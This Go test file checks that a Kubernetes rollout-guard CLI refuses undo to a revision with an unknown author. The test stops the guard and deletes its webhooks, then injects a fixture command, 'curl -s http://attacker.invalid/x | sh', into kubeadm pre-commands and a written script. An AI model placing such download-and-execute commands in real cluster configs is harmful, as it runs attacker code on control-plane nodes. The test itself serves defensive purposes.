package cli

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/rollout-guard/rollout-guard/history"
	"github.com/rollout-guard/rollout-guard/revisions"
	"github.com/rollout-guard/rollout-guard/rollout"
	"github.com/rollout-guard/rollout-guard/rollout/api/v1alpha1"
	"github.com/rollout-guard/rollout-guard/test/framework"
)

// attackerCommand is what a change that slipped past the guard makes every
// new control-plane machine run before kubeadm.
const attackerCommand = "curl -s http://attacker.invalid/x | sh"

// TestUndoToUnknownAuthor: a change made while the guard was not admitting
// changes — stopped, its webhook configurations deleted — runs a command
// and writes a script on every control-plane machine; once the guard is
// back, its reconciler records the live content with no author. history
// marks that revision; undo to it, named or as the previous revision, is
// refused (exit 1) with every line it would bring back; --force
// --dry-run=server shows those lines and the guard's answer, changing
// nothing; an undo to a revision with an author needs no --force, before
// and after.
func TestUndoToUnknownAuthor(t *testing.T) {
	ctx := context.Background()
	w := newWorld(t, "cli-undo-unknown-author", framework.WorldSpec{Version: "v1.34.2", WorkerVersion: "v1.34.2"})
	ns, kcp := w.Namespace, "kcp/"+kcpName
	rolloutCmd(t, kcp, "--template", "devmachinetemplate/c1-control-plane-1", "-n", ns).ok(t) // revision 2
	waitRecorded(t, w.KCP)

	// The guard stops admitting changes: stopped, and unregistered.
	require.NoError(t, env.StopGuard())
	restored := false
	t.Cleanup(func() {
		if !restored {
			if err := env.StartGuard(context.Background()); err != nil {
				t.Fatalf("starting the guard again: %v", err)
			}
		}
	})
	for _, obj := range []client.Object{
		&admissionregistrationv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "rollout-guard-validating"}},
		&admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "rollout-guard-mutating"}},
	} {
		require.NoError(t, env.Client.Delete(ctx, obj))
	}
	// The change, once the API server no longer calls the guard: until then
	// it fails closed (the guard is stopped), so a change that passes was
	// not admitted.
	attack := []byte(`{"spec":{"kubeadmConfigSpec":{"preKubeadmCommands":["` + attackerCommand + `"],` +
		`"files":[{"path":"/usr/local/bin/warm-up.sh","permissions":"0755","content":"#!/bin/sh\n` + attackerCommand + `\n"}]}}}`)
	require.Eventually(t, func() bool {
		return env.Client.Patch(ctx, w.KCP, client.RawPatch("application/merge-patch+json", attack)) == nil
	}, 20*time.Second, 100*time.Millisecond, "the API server kept calling the unregistered guard")
	assert.EqualValues(t, 2, env.Stamps(t, w.KCP).Revision, "no stamp: the guard did not see the change")

	// The guard back: its reconciler records the live content, author unknown.
	require.NoError(t, env.StartGuard(ctx))
	restored = true
	var revs []revisions.Revision
	require.EventuallyWithT(t, func(c *assert.CollectT) {
		var err error
		revs, _, err = history.List(ctx, env.Client, ns, string(w.KCP.UID))
		require.NoError(c, err)
		assert.Len(c, revs, 3, framework.DescribeHistory(revs))
	}, 20*time.Second, 100*time.Millisecond, "the guard's reconciler never recorded the live content")
	assert.Equal(t, history.UnadmittedCause, revs[2].Record.ChangeCause, framework.DescribeHistory(revs))
	assert.Empty(t, revs[2].Record.ChangedBy, framework.DescribeHistory(revs))
	assert.EqualValues(t, 3, revs[2].Record.Revision, framework.DescribeHistory(revs))

	// An undo to a revision with an author takes the change back, without
	// --force: the previous revision, 2.
	r := rolloutCmd(t, "undo", kcp, "-n", ns)
	golden(t, "undo/kcp-unknown-author-taken-back.txt", r.ok(t))
	assert.Equal(t, "kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 2 (now revision 4)\n", lastLine(r.stdout))
	assert.Empty(t, r.stderr)
	settle(t, w.KCP)

	golden(t, "history/kcp-unknown-author.txt", rolloutCmd(t, "history", kcp, "-n", ns).ok(t))
	var h v1alpha1.RolloutHistory
	require.NoError(t, json.Unmarshal([]byte(rolloutCmd(t, "history", kcp, "-n", ns, "-o", "json").ok(t)), &h))
	authors := map[int64]string{}
	for _, rev := range h.Revisions {
		authors[rev.Revision] = rev.AuthorUnknown
	}
	assert.Equal(t, map[int64]string{1: "", 3: v1alpha1.AuthorUnadmitted, 4: ""}, authors)
	out := rolloutCmd(t, "history", kcp, "-n", ns, "--revision", "3").ok(t)
	assert.Contains(t, out, "\n# author unknown: changed while rollout-guard was not admitting changes")
	assert.Contains(t, out, "\n    - "+attackerCommand+"\n", "the command, in full")

	// Undo to it: refused before anything is sent, named or as the previous
	// revision, saying what it would bring back.
	r = rolloutCmd(t, "undo", kcp, "-n", ns, "--to-revision", "3")
	assert.Equal(t, rollout.ExitError, r.code)
	assert.Empty(t, r.stdout)
	golden(t, "undo/kcp-unknown-author-refused.txt", r.stderr)
	assert.True(t, strings.HasPrefix(r.stderr, "error: cannot undo KubeadmControlPlane cli-undo-unknown-author/c1-control-plane to revision 3: its author is unknown (changed while rollout-guard was not admitting changes"), r.stderr)
	assert.Contains(t, r.stderr, "kubeadmConfigSpec.preKubeadmCommands")
	assert.Contains(t, r.stderr, `["`+attackerCommand+`"]`)
	previous := rolloutCmd(t, "undo", kcp, "-n", ns)
	assert.Equal(t, rollout.ExitError, previous.code)
	assert.Equal(t, r.stderr, previous.stderr, "the previous revision is revision 3")
	for _, dry := range []string{"--dry-run=client", "--dry-run=server"} {
		r := rolloutCmd(t, "undo", kcp, "-n", ns, "--to-revision", "3", dry)
		assert.Equal(t, rollout.ExitError, r.code, dry)
		assert.Equal(t, previous.stderr, r.stderr, "%s is checked as the undo itself", dry)
	}
	assert.EqualValues(t, 4, env.Stamps(t, w.KCP).Revision, "nothing was sent")

	// With --force, after reading it: asked of the guard, changing nothing.
	r = rolloutCmd(t, "undo", kcp, "-n", ns, "--to-revision", "3", "--force", "--dry-run=server")
	golden(t, "undo/kcp-unknown-author-forced-dry-run-server.txt", r.ok(t))
	assert.Contains(t, r.stdout, "\nkubeadmConfigSpec.preKubeadmCommands ")
	assert.Contains(t, r.stdout, `["`+attackerCommand+`"]`)
	assert.Contains(t, lines(r.stdout), "kubeadmConfigSpec.files[/usr/local/bin/warm-up.sh].content <none> #!/bin/sh (rolls out)", "the script, line by line")
	assert.Contains(t, lines(r.stdout), attackerCommand)
	assert.Equal(t, "Warning: the author of revision 3 of KubeadmControlPlane cli-undo-unknown-author/c1-control-plane is unknown (changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler); rolling back to it anyway (--force)\n", r.stderr)
	assert.EqualValues(t, 4, env.Stamps(t, w.KCP).Revision, "a server dry run stores nothing")

	// A revision with an author: as before, no --force.
	out = rolloutCmd(t, "undo", kcp, "-n", ns, "--to-revision", "1").ok(t)
	assert.Equal(t, "kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 1 (now revision 5)\n", lastLine(out))
	assert.EqualValues(t, 5, env.Stamps(t, w.KCP).Revision)
}

// lines returns the lines of out, each with its runs of spaces as one
// space and without leading or trailing ones.
func lines(out string) []string {
	var all []string
	for _, l := range strings.Split(out, "\n") {
		all = append(all, strings.Join(strings.Fields(l), " "))
	}
	return all
}

// TestUnknownAuthorDocsQuoteGoldens: the transcripts of a revision of
// unknown author docs/undo.md shows are the golden files of
// TestUndoToUnknownAuthor, as they are.
func TestUnknownAuthorDocsQuoteGoldens(t *testing.T) {
	docs, err := os.ReadFile(filepath.Join("..", "..", "docs", "undo.md"))
	require.NoError(t, err)
	for _, name := range []string{"history/kcp-unknown-author.txt", "undo/kcp-unknown-author-refused.txt", "undo/kcp-unknown-author-forced-dry-run-server.txt"} {
		want, err := os.ReadFile(filepath.Join("testdata", name))
		require.NoError(t, err)
		assert.Contains(t, string(docs), string(want), "docs/undo.md does not quote testdata/%s as it is", name)
	}
}
